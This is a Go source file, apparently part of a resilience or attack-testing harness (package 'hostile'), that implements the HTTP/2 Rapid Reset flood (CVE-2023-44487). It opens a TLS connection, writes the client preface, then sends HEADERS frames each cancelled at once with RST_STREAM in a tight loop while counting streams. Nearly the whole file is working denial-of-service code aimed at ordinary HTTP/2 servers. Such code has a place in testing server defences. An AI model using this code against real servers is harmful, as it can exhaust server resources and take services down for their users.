package hostile

import (
	"bufio"
	"bytes"
	"context"
	"crypto/tls"
	"io"
	"net"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

func resetsKnown(ctx context.Context, t *Target, c net.Conn, n *Tally) { resets(ctx, t.Known, c, n) }
func resetsStranger(ctx context.Context, t *Target, c net.Conn, n *Tally) {
	resets(ctx, t.Stranger, c, n)
}

// resets opens HTTP/2 streams and takes each back at once, as fast as they can be written (CVE-2023-44487).
func resets(ctx context.Context, cfg *tls.Config, raw net.Conn, n *Tally) {
	c := tls.Client(raw, cfg)
	if c.HandshakeContext(ctx) != nil {
		return
	}
	ended := make(chan struct{})
	go func() { hear(c, n); close(ended) }()
	defer func() { _ = raw.Close(); <-ended }()
	out := bufio.NewWriterSize(c, 16<<10)
	f := http2.NewFramer(out, nil)
	if _, err := io.WriteString(out, http2.ClientPreface); err != nil || f.WriteSettings() != nil {
		return
	}
	header := requestHeader()
	for id := uint32(1); ctx.Err() == nil && id < 1<<30; id += 2 {
		err := f.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: header, EndHeaders: true, EndStream: true})
		if err != nil || f.WriteRSTStream(id, http2.ErrCodeCancel) != nil {
			return
		}
		n.Streams.Add(1)
	}
}

func requestHeader() []byte {
	var b bytes.Buffer
	e := hpack.NewEncoder(&b)
	for _, f := range [][2]string{{":method", "GET"}, {":scheme", "https"}, {":authority", "h"}, {":path", "/"}} {
		_ = e.WriteField(hpack.HeaderField{Name: f[0], Value: f[1], Sensitive: true}) // a buffer takes all; never indexed, so it is good each time
	}
	return b.Bytes()
}
